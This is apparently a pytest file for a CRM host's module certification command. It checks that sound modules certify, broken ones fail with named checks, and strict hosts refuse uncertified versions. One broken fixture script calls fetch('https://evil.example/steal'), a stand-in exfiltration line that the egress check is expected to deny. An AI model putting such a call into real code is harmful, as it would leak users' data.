"""``crm-host module certify`` and CRM_HOST_REQUIRE_CERTIFIED, through the real command:
a module that meets the standard checks certifies (report bound to its content), broken
ones fail naming each failed check, and a requiring host refuses to store or enable an
uncertified version."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from host.config import HostSettings
from host.modules.packages import from_directory
from host.toolkit.certify import certify, digest, render
from sandbox.pool import SandboxPool
from tests.cli_runner import Cli

MAX_SCRIPT_BYTES = HostSettings().max_script_bytes

MANIFEST = {
    "id": "certified-mail",
    "name": "Certified Mail",
    "version": "1.0.0",
    "kind": "email",
    "script": "module.py",
    "egress": ["api.acme.test"],
    "settings": {
        "type": "object",
        "properties": {"api_key": {"type": "string", "writeOnly": True, "description": "key"}},
        "required": ["api_key"],
    },
}

SCRIPT = """\
import json

def CRM_Marketing_ExportContacts(contactIds):
    storage.set("seen", [c["id"] for c in crm.contacts(contactIds)])

def CRM_Marketing_ParseWebhookRequest(request):
    try:
        events = json.loads(request.body)
    except ValueError:
        return {"response": {"status": 400, "body": "not JSON"}}
    if not isinstance(events, list):
        return {"response": {"status": 400, "body": "expected a list"}}
    return {"actions": [
        {"type": "Unsubscribe", "email": e["email"], "externalId": {"all": True}}
        for e in events if isinstance(e, dict) and e.get("event") == "unsubscribe"
    ]}
"""

CASES = [
    {
        "name": "export",
        "function": "ExportContacts",
        "args": [["c1"]],
        "settings": {"api_key": "k"},
        "contacts": [{"id": "c1", "name": "Ann", "email": "ann@x.test"}],
        "returns": None,
        "storageAfter": {"seen": ["c1"]},
    },
    {
        "name": "unsubscribe",
        "function": "ParseWebhookRequest",
        "args": [{"json": [{"event": "unsubscribe", "email": "ann@x.test"}]}],
        "settings": {"api_key": "k"},
        "actions": [{"type": "Unsubscribe", "email": "ann@x.test", "externalId": {"all": True}}],
    },
]


def write_module(
    root: Path,
    manifest: dict[str, object] | None = None,
    script: str = SCRIPT,
    cases: list[dict[str, object]] | None = None,
) -> Path:
    (root / "tests").mkdir(parents=True, exist_ok=True)
    (root / "manifest.json").write_text(json.dumps(manifest or MANIFEST), encoding="utf-8")
    (root / "module.py").write_text(script, encoding="utf-8")
    (root / "tests" / "cases.json").write_text(json.dumps(cases or CASES), encoding="utf-8")
    return root


def test_a_sound_module_certifies_with_a_report_bound_to_its_content(tmp_path: Path) -> None:
    module = write_module(tmp_path / "good")
    result = Cli.in_dir(tmp_path).run("module", "certify", "good")
    assert result.returncode == 0, result.stdout + result.stderr
    assert result.stdout.splitlines()[-2] == "certified"
    report = json.loads((module / "certification.json").read_text())
    assert report["passed"] is True and report["module"] == "certified-mail"
    names = [c["name"] for c in report["checks"]]
    assert names == [
        "manifest",
        "settings-schema",
        "egress",
        "cases",
        "recorded-fetch",
        "limits",
        "webhook-stable",
        "webhook-malformed",
    ]
    body = {k: v for k, v in report.items() if k != "digest"}
    assert report["digest"] == digest(body)
    # another script is another content hash: the report names the content it certified
    (module / "module.py").write_text(SCRIPT + "\n# changed\n", encoding="utf-8")
    again = Cli.in_dir(tmp_path).run("module", "certify", "good", "--output", "again.json")
    assert again.returncode == 0
    assert json.loads((tmp_path / "again.json").read_text())["contentHash"] != report["contentHash"]


BROKEN_SCRIPT = """\
import json

def CRM_Marketing_ExportContacts(contactIds):
    fetch("https://evil.example/steal")

def CRM_Marketing_GetTemplateHTML(templateExternalId):
    return "<p>" + templateExternalId + "</p>"

def CRM_Marketing_ParseWebhookRequest(request):
    events = json.loads(request.body)
    return {"actions": [], "response": {"status": 200, "body": str(len(events))}}
"""


def test_broken_modules_fail_naming_every_failed_check(tmp_path: Path) -> None:
    manifest = json.loads(json.dumps(MANIFEST))
    manifest["settings"]["properties"]["webhook_secret"] = {"type": "string"}
    manifest["settings"]["required"] = ["api_key", "webhook_secret"]
    cases = [
        {
            "name": "export is denied",
            "function": "ExportContacts",
            "args": [["c1"]],
            "settings": {"api_key": "k", "webhook_secret": "s"},
            "error": "egress_denied",
        },
        {
            "name": "webhook",
            "function": "ParseWebhookRequest",
            "args": [{"json": [1, 2]}],
            "settings": {"api_key": "k", "webhook_secret": "s"},
            "actions": [],
        },
    ]
    write_module(tmp_path / "broken", manifest, BROKEN_SCRIPT, cases)
    result = Cli.in_dir(tmp_path).run("module", "certify", "broken")
    assert result.returncode == 1
    out = result.stdout
    assert "NOT certified: failed settings-schema, egress, cases, webhook-malformed" in out
    for expected in (
        "$.settings.properties.webhook_secret: looks like a secret but is not",
        "$.settings.properties.webhook_secret: required but has no description",
        "module.py:4: fetch to evil.example will be denied",
        "CRM_Marketing_GetTemplateHTML is implemented but no case in tests/ calls it",
        "an empty body: raised script_error: JSONDecodeError",
        "a wrong content type: raised script_error",
    ):
        assert expected in out, out
    assert "Traceback" not in out + result.stderr
    report = json.loads((tmp_path / "broken" / "certification.json").read_text())
    assert report["passed"] is False

    # a manifest that fails the upload checks: only that check, and why
    (tmp_path / "broken" / "manifest.json").write_text('{"id": "x"}', encoding="utf-8")
    result = Cli.in_dir(tmp_path).run("module", "certify", "broken")
    assert result.returncode == 1
    assert "FAILED manifest" in result.stdout and "NOT certified: failed manifest" in result.stdout


def test_a_requiring_host_refuses_uncertified_uploads_and_enabling(tmp_path: Path) -> None:
    write_module(tmp_path / "good")
    bare = write_module(tmp_path / "bare", {**MANIFEST, "version": "1.1.0"})
    (bare / "tests" / "cases.json").unlink()
    strict = Cli.in_dir(tmp_path, CRM_HOST_REQUIRE_CERTIFIED="1")
    lax = Cli.in_dir(tmp_path)

    refused = strict.run("module", "upload", "bare")
    assert refused.returncode == 1
    assert "is not certified and this host requires certification" in refused.stderr
    assert "certification: cases: no cases" in refused.stderr
    assert "1.1.0" not in lax.run("module", "show", "certified-mail").stdout

    stored = strict.run("module", "upload", "good")
    assert stored.returncode == 0, stored.stderr
    report = json.loads(strict.run("module", "certification", "certified-mail", "1.0.0").stdout)
    assert report["passed"] is True and report["valid"] is True

    # uploaded on a host that did not require it: stored, but cannot be enabled where required
    assert lax.run("module", "upload", "bare").returncode == 0
    assert lax.run("tenant", "create", "acme", "--name", "Acme").returncode == 0
    denied = strict.run(
        "tenant", "enable", "acme", "certified-mail", "--version", "1.1.0", "--set", "api_key=k"
    )
    assert denied.returncode == 1
    assert "certified-mail@1.1.0 has no certification" in denied.stderr
    missing = lax.run("module", "certification", "certified-mail", "1.1.0")
    assert missing.returncode == 1 and "has no certification report" in missing.stderr
    enabled = strict.run(
        "tenant", "enable", "acme", "certified-mail", "--version", "1.0.0", "--set", "api_key=k"
    )
    assert enabled.returncode == 0, enabled.stderr


# --- each check fails on its own (an invalid case file takes its cases with it), naming
# the file, function or case that failed -------------------------

WEBHOOK_CASE = CASES[1]
EXPORT_CASE = CASES[0]
EXPORT_CALL = {k: v for k, v in EXPORT_CASE.items() if k not in ("returns", "storageAfter")}


def _variant(old: str, new: str) -> str:
    assert old in SCRIPT
    return SCRIPT.replace(old, new)


BROKEN_MODULES = {
    "a fetch no recording answers": (
        _variant(
            'storage.set("seen"',
            'if "c9" in contactIds:\n        fetch("https://api.acme.test/contacts")\n'
            '    storage.set("seen"',
        ),
        [*CASES, {**EXPORT_CALL, "name": "live", "args": [["c9"]], "error": "script_error"}],
        {},
        ["recorded-fetch"],
        "tests/cases.json::live: GET https://api.acme.test/contacts has no recorded answer",
    ),
    "a case that hits the time limit": (
        _variant(
            'storage.set("seen"', 'while "c9" in contactIds:\n        pass\n    storage.set("seen"'
        ),
        [*CASES, {**EXPORT_CALL, "name": "spin", "args": [["c9"]], "error": "timeout"}],
        {"limits": {"timeout_s": 1}},
        ["limits"],
        "tests/cases.json::spin: timeout under the manifest's limits",
    ),
    "a webhook that answers differently each time": (
        _variant(
            'for e in events if isinstance(e, dict) and e.get("event") == "unsubscribe"\n    ]}',
            'for e in events if isinstance(e, dict) and e.get("event") == "unsubscribe"\n'
            '    ], "response": {"status": 200, "body": str(random.random())}}',
        ).replace("import json\n", "import json\nimport random\n"),
        CASES,
        {},
        ["webhook-stable"],
        "tests/cases.json::unsubscribe: a second run of the same request gave another result",
    ),
    "a webhook that accepts a malformed body": (
        _variant(
            'return {"response": {"status": 400, "body": "not JSON"}}', 'return {"actions": []}'
        ),
        CASES,
        {},
        ["webhook-malformed"],
        "an empty body: answered 200, expected a 4xx response",
    ),
    "a case whose expectation is not met": (
        SCRIPT,
        [EXPORT_CASE, {**WEBHOOK_CASE, "actions": []}],
        {},
        ["cases"],
        "tests/cases.json::unsubscribe FAILED: CRM_Marketing_ParseWebhookRequest: the actions "
        "differ from the expected ones",
    ),
    "a function with error cases only": (
        SCRIPT,
        [{**EXPORT_CALL, "args": [[1]], "error": "script_error"}, WEBHOOK_CASE],
        {},
        ["cases"],
        "CRM_Marketing_ExportContacts: every case in tests/ expects an error",
    ),
    "an invalid case file": (
        SCRIPT,
        [{**EXPORT_CASE, "expected": None}, WEBHOOK_CASE],
        {},
        ["cases", "webhook-malformed"],  # the file is refused whole: no webhook case left
        "tests/cases.json: $[0].expected: unknown key",
    ),
}


@pytest.mark.parametrize("what", list(BROKEN_MODULES))
def test_each_check_fails_alone_and_names_what_failed(
    what: str, tmp_path: Path, pool: SandboxPool
) -> None:
    script, cases, manifest_changes, failed, detail = BROKEN_MODULES[what]
    folder = write_module(tmp_path / "m", {**MANIFEST, **manifest_changes}, script, cases)
    package = from_directory(folder, max_script_bytes=MAX_SCRIPT_BYTES)
    report = certify(folder, package, max_script_bytes=MAX_SCRIPT_BYTES, pool=pool)
    assert [c.name for c in report.checks if not c.passed] == failed, render(report)
    details = [d for c in report.checks for d in c.details]
    assert any(detail in d for d in details), details
    assert report.passed is False and "NOT certified: failed " + ", ".join(failed) in render(report)
